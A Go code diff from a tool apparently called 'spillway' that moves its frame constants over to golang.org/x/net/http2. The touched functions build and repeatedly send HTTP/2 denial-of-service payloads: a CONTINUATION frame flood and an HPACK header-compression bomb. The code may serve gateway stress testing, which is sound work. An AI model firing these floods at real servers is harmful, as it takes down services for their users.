@@ -9,6 +9,8 @@ import (
 	"strings"
 	"time"
 
+	"golang.org/x/net/http2"
+
 	"github.com/seed90641741/spillway/cmd/spillway/internal/gateway/frames"
 )
 
@@ -70,7 +72,7 @@ func fewFiles(ctx context.Context, s *stage) error {
 }
 
 func continuations(ctx context.Context, s *stage) error {
-	flood := frames.Of(frames.Headers, 0, 1, "") + strings.Repeat(frames.Of(frames.Continuation, 0, 1, frames.Fields("a", "b")), 2000)
+	flood := frames.Of(http2.FrameHeaders, 0, 1, "") + strings.Repeat(frames.Of(http2.FrameContinuation, 0, 1, frames.Fields("a", "b")), 2000)
 	every(ctx, 20*time.Millisecond, func(int) { s.sendOnce(ctx, flood) })
 	return nil
 }
@@ -90,7 +92,7 @@ func (s *stage) sendOnce(ctx context.Context, text string) {
 func hpackBomb(ctx context.Context, s *stage) error {
 	value := strings.Repeat("x", 4000)
 	insert := "\x40\x01a\x7f" + string([]byte{byte(len(value) - 127 | 0x80), byte((len(value) - 127) >> 7)}) + value
-	bomb := frames.Of(frames.Headers, frames.EndHeaders|frames.EndStream, 1,
+	bomb := frames.Of(http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, 1,
 		frames.Fields(":method", "GET", ":scheme", "http", ":path", "/", ":authority", "a")+insert+strings.Repeat("\xbe", 8000))
 	every(ctx, 20*time.Millisecond, func(int) { s.sendOnce(ctx, bomb) })
 	return nil
